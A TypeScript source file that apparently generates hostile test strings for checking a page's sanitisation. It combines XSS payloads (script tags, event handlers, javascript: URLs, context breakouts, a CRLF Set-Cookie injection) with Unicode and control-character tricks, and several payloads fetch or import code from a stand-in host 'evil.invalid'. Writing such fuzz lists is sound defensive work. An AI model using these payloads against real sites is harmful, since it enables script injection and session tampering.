/** Attacks on a page through its texts, made by combining: markup × ways to run, addresses, Unicode, control characters. */
export function hostileTexts(): string[] {
  return [...markup(), ...broken(), ...addresses(), ...unicode(), ...controls()]
}

// What runs tells on itself: a dialog, a request, a violation.
const run = [
  'alert(1)',
  "fetch('//evil.invalid/')",
  "import('//evil.invalid/x.js')",
  "document.title='owned'",
]
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover']

function markup(): string[] {
  const elements = run.flatMap((js) => [
    `<script>${js}</script>`,
    `<script src="//evil.invalid/x.js" data-x="${js}"></script>`,
    `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    `<a href="javascript:${js}">read on</a>`,
    `<form action="javascript:${js}"><button>go</button></form>`,
    `<object data="javascript:${js}"></object>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><animate onbegin="${js}" attributeName="x"/></svg>`,
    `<template><script>${js}</script></template>`,
  ])
  const attributes = run.flatMap((js) =>
    handlers.map((handler) => `<img src="//evil.invalid/x" ${handler}="${js}" autofocus tabindex="0">`),
  )
  return [...elements, ...attributes]
}

/** Ways out of an attribute, a comment, a script, a style, a JSON block, a template literal. */
function broken(): string[] {
  const exits = [
    '"',
    "'",
    '`',
    '-->',
    ']]>',
    '</title>',
    '</style>',
    '</script>',
    '</textarea>',
    '${',
    '{{',
    '\\u003c',
    '&lt;',
  ]
  const payloads = [
    '<script>alert(2)</script>',
    '<img src=x onerror=alert(2)>',
    '><svg/onload=alert(2)>',
    '}}alert(2)',
  ]
  return exits.flatMap((exit) => payloads.map((payload) => `${exit}${payload}`))
}

function addresses(): string[] {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'data:text/html,',
    'vbscript:',
    'file:///',
    'blob:',
    '//',
    '\\\\',
    'http://',
  ]
  const targets = ['alert(3)', 'evil.invalid/%0d%0aSet-Cookie:x=1', '<script>alert(3)</script>']
  return schemes.flatMap((scheme) => targets.map((target) => `Read more at ${scheme}${target} today`))
}

function unicode(): string[] {
  const marks = [
    '\u202e',
    '\u202d',
    '\u2066',
    '\u2067',
    '\u200b',
    '\u200d',
    '\ufeff',
    '\u00ad',
    '\u2028',
    '\u2029',
    '\u0301'.repeat(60),
    '\ufdfd',
    '\u{e0041}',
    '\ud800',
    '\udfff',
  ]
  return marks.flatMap((mark) => [`The ${mark}reversed${mark} report`, `${mark}<b>bold</b>${mark}`])
}

function controls(): string[] {
  return Array.from(
    { length: 32 },
    (_, code) => `A line with ${String.fromCharCode(code)} in it <i>x</i>`,
  ).concat(
    `A line with ${String.fromCharCode(0x7f)} in it`,
    `A line with ${String.fromCharCode(0x9b)}31m in it`,
  )
}
